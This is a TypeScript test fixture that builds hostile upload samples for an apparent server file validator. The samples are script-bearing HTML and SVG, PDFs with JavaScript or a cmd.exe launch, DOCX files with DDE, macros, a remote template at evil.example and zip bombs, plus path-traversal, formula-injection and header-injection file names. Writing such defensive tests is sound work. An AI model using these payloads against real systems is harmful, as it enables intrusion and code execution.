import { deflateRawSync, deflateSync } from 'node:zlib';
import {
  contentTypes,
  heic,
  jpeg,
  samples,
  zip,
} from '../../../apps/server/src/testing/files/sample-files.ts';

export type HostileFile = { name: string; content: Buffer };

const word = 'word/document.xml';
const wordType = 'wordprocessingml.document.main+xml';
const wordParts = {
  '[Content_Types].xml': contentTypes(word, `application/vnd.openxmlformats-officedocument.${wordType}`),
  [word]: '<document/>',
};
const docx = (more: Record<string, string | Buffer>) => zip({ ...wordParts, ...more });
const relationship = (type: string, target: string, mode = 'External') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const pdf = (objects: string) =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${objects}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  );
const html = '<!doctype html><script>window.attackedByScript=1</script>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.attackedByScript=1"/>';

/** What the hostile ones are made of, without what makes them so: it must be taken, else they are refused for another reason. */
export function honestFiles(): Record<string, HostileFile> {
  return {
    'a document': { name: 'a.docx', content: docx({ 'word/x.xml': '<a/>' }) },
    'a PDF': { name: 'a.pdf', content: pdf('') },
    'a picture': { name: 'a.png', content: samples.png },
  };
}

/** Each of them must be refused. */
export function refusedFiles(): Record<string, HostileFile> {
  const zeros = Buffer.alloc(101 * 1_048_576);
  const file = (name: string, content: Buffer | string): HostileFile => ({
    name,
    content: Buffer.from(content),
  });
  const bomb = zip({ 'a.xml': zeros });
  return {
    'a page': file('page.html', html),
    'a page that is called a picture': file('page.png', html),
    'a drawing with a script': file('drawing.svg', svg),
    'a drawing that is called a picture': file('drawing.png', svg),
    'a program of Windows': file('a.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])),
    'a program of Linux': file('a.pdf', Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(200)])),
    'a script of a shell': file('a.pdf', '#!/bin/sh\nid\n'),
    'an archive': file('a.zip', zip({ 'a.txt': 'a' })),
    'an archive that is called a document': file('a.docx', zip({ 'a.txt': 'a' })),
    'a GIF that is a script': file('a.png', 'GIF89a/*\x01\x00*/=1;window.attackedByScript=1'),
    nothing: file('a.pdf', ''),
    'a page before a PDF': file('a.pdf', Buffer.concat([Buffer.from(html), samples.pdf])),
    'a PDF with a script': file('a.pdf', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')),
    'a PDF with a spelled-out script': file(
      'a.pdf',
      pdf('/OpenAction<</S/#4AavaScript/J#53(app.alert(1))>>'),
    ),
    'a PDF that starts a program': file('a.pdf', pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')),
    'a PDF without an end': file('a.pdf', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj'),
    'a document with macros': file('a.docx', docx({ 'word/vbaProject.bin': 'macro' })),
    'a document with a remote template': file(
      'a.docx',
      docx({
        'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/a.dotm'),
      }),
    ),
    'a document with an OLE object': file(
      'a.docx',
      docx({
        'word/_rels/document.xml.rels': relationship('oleObject', 'embeddings/oleObject1.bin', 'Internal'),
        'word/embeddings/oleObject1.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      }),
    ),
    'a document with DDE': file(
      'a.docx',
      zip({
        '[Content_Types].xml': contentTypes(
          word,
          `application/vnd.openxmlformats-officedocument.${wordType}`,
        ),
        [word]:
          '<w:document><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:document>',
      }),
    ),
    'a document with a foreign part': file('a.docx', docx({ 'word/media/a.exe/../../../x': 'x' })),
    'a document with entities': file(
      'a.docx',
      docx({ 'word/x.xml': '<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>' }),
    ),
    'a document with two parts of one name': file(
      'a.docx',
      zip([
        [
          '[Content_Types].xml',
          contentTypes(word, `application/vnd.openxmlformats-officedocument.${wordType}`),
        ],
        [word, '<document/>'],
        [word, '<other/>'],
      ]),
    ),
    'a bomb': file('a.docx', docx({ 'word/media/a.xml': zeros })),
    'a bomb within a document': file('a.docx', docx({ 'word/embeddings/a.zip': bomb.toString('latin1') })),
    'a PNG of four gigapixels': file('a.png', png(65_535, 65_535)),
    'a JPEG of four gigapixels': file('a.jpg', jpeg({ width: 65_535, height: 65_535 })),
    'a HEIC of four gigapixels': file('a.heic', heic({ width: 65_535, height: 65_535 })),
    'a stream that is no archive': file('a.docx', deflateRawSync(Buffer.alloc(10_000))),
  };
}

/** They may be kept, if whoever opens them gets nothing but what they are called here. */
export function carriedFiles(): Record<string, HostileFile> {
  const behind = (content: Buffer) => Buffer.concat([content, Buffer.from(html)]);
  return {
    'a page behind a picture': { name: 'a.png', content: behind(samples.png) },
    'a page behind a JPEG': { name: 'a.html', content: behind(samples.jpeg) },
    'a page in a comment of a PDF': {
      name: 'a.svg',
      content: Buffer.concat([samples.pdf, Buffer.from(`%${html}\n%%EOF\n`)]),
    },
    'a name with markup': { name: `<img src=x onerror=alert(1)>.pdf`, content: samples.pdf },
    'a name with a formula': { name: '=cmd|calc!A1.pdf', content: samples.pdf },
    'a name with quotes': { name: `a'b;c%22.pdf`, content: samples.pdf },
  };
}

/** In the header of a form, as they stand. */
export const hostileNames: readonly string[] = [
  '../../../../etc/passwd.pdf',
  '..\\..\\boot.pdf',
  'a\u0000.pdf',
  'a\u202efdp.exe',
  `${'я'.repeat(5000)}.pdf`,
  `${'a'.repeat(100_000)}.pdf`,
  '.pdf',
  '..',
  'CON.pdf',
  'a".pdf"; filename="b.pdf',
];

function png(width: number, height: number): Buffer {
  const head = Buffer.from(samples.png.subarray(0, 33));
  head.writeUInt32BE(width, 16);
  head.writeUInt32BE(height, 20);
  return Buffer.concat([head, deflateSync(Buffer.alloc(1000))]);
}
